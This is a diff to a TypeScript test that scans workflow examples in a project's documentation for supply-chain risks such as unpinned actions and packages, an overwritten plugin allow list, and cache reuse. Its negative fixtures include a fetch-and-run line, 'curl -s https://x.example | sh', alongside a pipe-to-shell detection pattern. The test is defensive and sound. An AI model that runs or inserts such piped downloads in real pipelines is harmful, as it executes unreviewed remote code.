@@ -1,5 +1,5 @@
 import { expect } from 'chai';
-import { readFromRoot } from './markdown.ts';
+import { pages, readFromRoot } from './markdown.ts';
 
 type Locked = {
   readonly resolved?: string;
@@ -46,4 +46,39 @@ describe('attack: another package than the reviewed one is installed, or runs co
     // what SECURITY.md says about it
     expect(readFromRoot('SECURITY.md')).to.include('**The Node of a checkout.**');
   });
+
+  it('a workflow in a recipe runs nothing that its author didn’t review, and keeps nothing that another job can write', () => {
+    const workflows = pages().flatMap((page) => workflowsIn(readFromRoot(page) ?? ''));
+    expect(workflows.length).to.be.at.least(1);
+    expect(workflows.flatMap(looseEnds)).to.deep.equal([]);
+    const planted = [
+      ...['uses: actions/checkout@v5', 'uses: actions/cache@0123456789012345678901234567890123456789 # v4.0.0'],
+      ...['npm install --global @salesforce/cli', 'npm install --global @salesforce/cli@latest'],
+      ...['sf plugins install sf-plugin-eca', "echo '[]' > ~/.config/sf/unsignedPluginAllowList.json"],
+      ...['restore-keys: eca-state-', 'sf eca secret resume --state-dir eca-state', 'curl -s https://x.example | sh'],
+    ];
+    expect(planted.filter((line) => looseEnds(`permissions:\n  contents: read\n${line}`).length === 0)).to.deep.equal(
+      [],
+    );
+    expect(looseEnds('jobs:')).to.deep.equal(['no permissions']);
+  });
 });
+
+/** The code blocks of a page that are workflows. */
+function workflowsIn(page: string): string[] {
+  const blocks = [...page.matchAll(/^```\w*\n([\s\S]*?)^```/gm)].map(([, block = '']) => block);
+  return blocks.filter((block) => /^\s*(?:- )?uses:|^\s*runs-on:/m.test(block));
+}
+
+/** The lines of a workflow that run what nobody pinned, or read what a lesser job can write. */
+function looseEnds(workflow: string): string[] {
+  const loose = workflow.split('\n').filter((line) => {
+    if (/\buses:/.test(line))
+      return !/@[\da-f]{40} # v\d/.test(line) || /actions\/(?:cache|download-artifact)/.test(line);
+    if (/\b(?:npm (?:install|i|exec)|npx|plugins install)\b/.test(line)) return !/@\d+\.\d+\.\d+(?:\s|$)/.test(line);
+    // the list of plugins is added to, not overwritten
+    if (/>\s*\S*(?:AllowList\.json|"\$list")/.test(line)) return !/^\s*test -e .* \|\| /.test(line);
+    return /restore-keys|--state-dir|\|\s*(?:ba)?sh\b/.test(line);
+  });
+  return /^\s*permissions:\n\s+contents: read$/m.test(workflow) ? loose : [...loose, 'no permissions'];
+}
